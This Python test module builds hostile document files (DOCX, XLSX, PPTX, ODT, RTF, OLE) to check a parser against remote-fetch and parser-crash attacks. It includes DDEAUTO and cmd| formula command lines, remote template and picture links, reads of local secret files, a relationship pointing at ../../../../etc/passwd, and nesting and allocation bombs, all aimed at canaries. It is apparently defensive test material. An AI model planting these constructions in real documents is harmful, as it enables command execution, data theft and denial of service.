"""Office files: templates, pictures and objects that lie elsewhere, fields that fetch, parts that contain themselves."""

import struct
from collections.abc import Callable

from tests.faults.hostile.attack import PARSERS, REMOTE, Attack, Canary
from tests.faults.hostile.packages import docx, odt, pptx, relations, xlsx, zipped


def _settings(canary: Canary) -> bytes:
    template = relations(("t1", "attachedTemplate", f"{canary.url}/template.dotm"), external=True)
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    link = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="t1"'
    return zipped(
        {
            **docx(),
            "word/_rels/document.xml.rels": relations(("s1", "settings", "settings.xml")),
            "word/settings.xml": f"<w:settings {space}><w:attachedTemplate {link}/></w:settings>".encode(),
            "word/_rels/settings.xml.rels": template,
        }
    )


def _linked(make: Callable[[str], dict[str, bytes]], part: str, body: str, kind: str) -> Callable[[Canary], bytes]:
    """A package whose part names, under the id x1, an address and, under x2, a file of this machine."""
    folder, _, name = part.rpartition("/")
    return lambda canary: zipped(
        {
            **make(body),
            f"{folder}/_rels/{name}.rels": relations(
                ("x1", kind, f"{canary.url}/{kind}"), ("x2", kind, f"file://{canary.secret}"), external=True
            ),
        }
    )


_FIELDS = "".join(
    f'<w:p><w:fldSimple w:instr="{field}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    for field in (
        "INCLUDETEXT &quot;file://{secret}&quot;", "INCLUDEPICTURE &quot;{url}/field&quot; \\d",
        "DDEAUTO sh &quot;-c touch {token}&quot;", "HYPERLINK &quot;{url}/link&quot;", "RD &quot;file://{secret}&quot;",
    )
)  # fmt: skip


def _filled(text: str, canary: Canary) -> str:
    return text.format(url=canary.url, secret=canary.secret, token=canary.token)


_FORMULAS = "".join(
    f'<row r="{n}"><c r="A{n}" t="str"><f>{formula}</f><v>x</v></c></row>'
    for n, formula in enumerate(
        ('WEBSERVICE("{url}/sheet")', "cmd|'/c touch {token}'!A0", 'HYPERLINK("{url}/x")', "'file://{secret}'#$A.A1"),
        start=1,
    )
)


def _odt(canary: Canary) -> bytes:
    return zipped(
        odt(
            f'<text:p><draw:frame><draw:image xlink:href="{canary.url}/odt.png"/></draw:frame>'
            f'<draw:frame><draw:object-ole xlink:href="file://{canary.secret}"/></draw:frame></text:p>'
            f'<text:section text:name="s"><text:section-source xlink:href="file://{canary.secret}"/></text:section>'
        )
    )


def _rtf(canary: Canary) -> bytes:
    return (
        rf"{{\rtf1\ansi{{\*\template {canary.url}/template.dot}}"
        rf'{{\field{{\*\fldinst INCLUDEPICTURE "{canary.url}/rtf.png"}}{{\fldrslt x}}}}'
        rf'{{\field{{\*\fldinst INCLUDETEXT "{canary.secret}"}}{{\fldrslt x}}}}'
        rf"{{\object\objautlink\objupdate{{\*\objclass Word.Document}}{{\*\objdata 0105000002000000}}}} B\'e0i}}"
    ).encode()


def _rel_loop() -> bytes:
    slide = relations(("s1", "slide", "slide1.xml"), ("n1", "notesSlide", "slide1.xml"), ("c1", "chart", "slide1.xml"))
    return zipped({**pptx(), "ppt/slides/_rels/slide1.xml.rels": slide})


def _within_itself(depth: int) -> bytes:
    """A document in a document in a document …"""
    inner = zipped(docx())
    for _ in range(depth):
        body = '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="p1"/></w:object></w:r></w:p>'
        inner = zipped(
            {
                **docx(body),
                "word/_rels/document.xml.rels": relations(("p1", "package", "embeddings/inner.docx")),
                "word/embeddings/inner.docx": inner,
            }
        )
    return inner


def ole(
    *names: str, following: int = 0xFFFFFFFE, children: tuple[int, int, int] = (0xFFFFFFFF, 0xFFFFFFFF, 1)
) -> bytes:
    """An OLE file with a directory of these names; `following` is what comes after the directory's sector."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 62, 3, 0xFFFE, 9, 6) + b"\0" * 6
    head += (
        struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0) + struct.pack("<I", 0) + b"\xff" * 432
    )
    table = struct.pack("<II", 0xFFFFFFFD, following) + b"\xff" * 504
    directory = b""
    for number, name in enumerate(("Root Entry", *names)):
        text = name.encode("utf-16-le")
        links = children if number == 0 else (number + 1 if number < len(names) else 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
        kind = 5 if number == 0 else 2
        directory += text.ljust(64, b"\0") + struct.pack("<HBB", len(text) + 2, kind, 1) + struct.pack("<III", *links)
        directory += b"\0" * 36 + struct.pack("<IQ", 0, 2**40)
    return head[:512] + table + directory.ljust(512, b"\0")


def _strings(count: int) -> bytes:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, count))
    return zipped(
        {
            **xlsx(rows),
            "xl/_rels/workbook.xml.rels": relations(
                ("r1", "worksheet", "worksheets/sheet1.xml"), ("r2", "sharedStrings", "sharedStrings.xml")
            ),
            "xl/sharedStrings.xml": f'<sst xmlns="{space}"><si><t>{"x" * 30_000}</t></si></sst>'.encode(),
        }
    )


_EMPTY = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
_OBJECT = (
    '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" r:id="{id}"/></w:object>'
    "</w:r></w:p>"
)
_PICTURE = '<w:p><w:r><w:drawing><a:blip r:link="{id}"/></w:drawing></w:r></w:p>'

_REMOTE: dict[str, tuple[str, Callable[[Canary], bytes]]] = {
    "a template at an address.docx": ("docx", _settings),
    "pictures elsewhere.docx": (
        "docx", _linked(docx, "word/document.xml", _PICTURE.format(id="x1") + _PICTURE.format(id="x2"), "image")
    ),
    "objects elsewhere.docx": (
        "docx", _linked(docx, "word/document.xml", _OBJECT.format(id="x1") + _OBJECT.format(id="x2"), "oleObject")
    ),
    "a page of another document.docx": (
        "docx", _linked(docx, "word/document.xml", '<w:altChunk r:id="x1"/><w:altChunk r:id="x2"/>', "aFChunk")
    ),
    "fields that fetch.docx": ("docx", lambda canary: zipped(docx(_filled(_FIELDS, canary)))),
    "pictures elsewhere.pptx": (
        "pptx",
        _linked(pptx, "ppt/slides/slide1.xml", '<p:pic><p:blipFill><a:blip r:link="x1"/></p:blipFill></p:pic>', "image"),
    ),
    "a film elsewhere.pptx": (
        "pptx",
        _linked(pptx, "ppt/slides/slide1.xml", '<p:pic><p:nvPicPr><p:nvPr><a:videoFile r:link="x2"/></p:nvPr></p:nvPicPr></p:pic>', "video"),
    ),
    "formulas that fetch.xlsx": ("xlsx", lambda canary: zipped(xlsx(_filled(_FORMULAS, canary)))),
    "a book elsewhere.xlsx": (
        "xlsx", _linked(xlsx, "xl/worksheets/sheet1.xml", '<row r="1"><c r="A1"><f>[1]A!A1</f><v>1</v></c></row>', "externalLinkPath")
    ),
    "pictures and sections elsewhere.odt": ("opendocument", _odt),
    "a template, pictures and objects.rtf": ("rtf", _rtf),
}  # fmt: skip

_PARSERS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a slide that leads to itself.pptx": ("pptx", _rel_loop),
    "fifty documents in each other.docx": ("docx", lambda: _within_itself(50)),
    "ten thousand tables in each other.docx": (
        "docx", lambda: zipped(docx("<w:tbl><w:tr><w:tc>" * 10_000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 10_000))
    ),
    "groups in groups.pptx": ("pptx", lambda: zipped(pptx("<p:grpSp>" * 20_000 + "</p:grpSp>" * 20_000))),
    "seventeen billion empty cells.xlsx": ("xlsx", lambda: zipped(xlsx(_EMPTY, '<dimension ref="A1:XFD1048576"/>'))),
    "a cell out of measure.xlsx": (
        "xlsx", lambda: zipped(xlsx('<row r="999999999999"><c r="ZZZZZZZZZZ999999999999"><v>1</v></c></row>'))
    ),
    "thirty gigabytes of one shared text.xlsx": ("xlsx", lambda: _strings(1_000_000)),
    "a shared text that is missing.xlsx": (
        "xlsx", lambda: zipped(xlsx('<row r="1"><c r="A1" t="s"><v>-99999999999999999999</v></c></row>'))
    ),
    "a slide that is nowhere.pptx": ("pptx", lambda: zipped({k: v for k, v in pptx().items() if "slides/" not in k})),
    "a main part outside the file.docx": (
        "docx", lambda: zipped({**docx(), "_rels/.rels": relations(("r1", "officeDocument", "../../../../etc/passwd"))})
    ),
    "paragraphs in each other.odt": ("opendocument", lambda: zipped(odt("<text:span>" * 20_000 + "</text:span>" * 20_000))),
    "a space of a billion.odt": (
        "opendocument",
        lambda: zipped(odt('<text:p>a<text:s text:c="2000000000"/>b</text:p>')),
    ),
    "groups in groups.rtf": ("rtf", lambda: b"{\\rtf1" + b"{" * 3_000_000),
    "a picture of endless length.rtf": ("rtf", lambda: b"{\\rtf1{\\pict\\bin2147483647 x}}"),
    "unicode without end.rtf": ("rtf", lambda: b"{\\rtf1\\uc1000000000 " + b"\\u7879?" * 100_000 + b"}"),
    "a directory that follows itself.doc": ("", lambda: ole("WordDocument", following=1)),
    "streams that are their own children.ppt": ("", lambda: ole("PowerPoint Document", children=(0, 0, 0))),
    "a directory without end.xls": ("", lambda: ole("Workbook") + bytes(range(256)) * 4000),
    "cut off.doc": ("", lambda: ole("WordDocument")[:600]),
}  # fmt: skip

ATTACKS = (
    *(Attack(name, REMOTE, reader, make) for name, (reader, make) in _REMOTE.items()),
    *(Attack(name, PARSERS, reader, lambda _, make=make: make()) for name, (reader, make) in _PARSERS.items()),
)
